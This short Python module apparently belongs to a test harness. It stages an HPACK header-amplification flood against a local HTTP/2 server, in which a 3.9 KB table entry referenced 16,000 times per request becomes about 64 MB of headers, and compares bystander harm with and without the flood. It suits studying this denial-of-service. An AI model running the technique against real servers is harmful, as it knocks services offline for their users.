"""One field of 3.9 KB enters HPACK's dynamic table, and each request of 16 KB names it 16,000 times."""

from bystanders import harm_of
from fleet import Fleet
from flood import Flood
from raw_http2 import PREFACE, SETTINGS, amplifying_requests, frame

WHAT = "four strangers at a port in the clear send requests of 16 KB that mean 64 MB of headers"


def attack():
    with Fleet(workers=1) as fleet:
        quiet = harm_of(fleet, 6)
        attacked = harm_of(fleet, 6, Flood(fleet.fleet_port, 4, PREFACE + frame(SETTINGS) + amplifying_requests(200), drains=True))
        return quiet, attacked
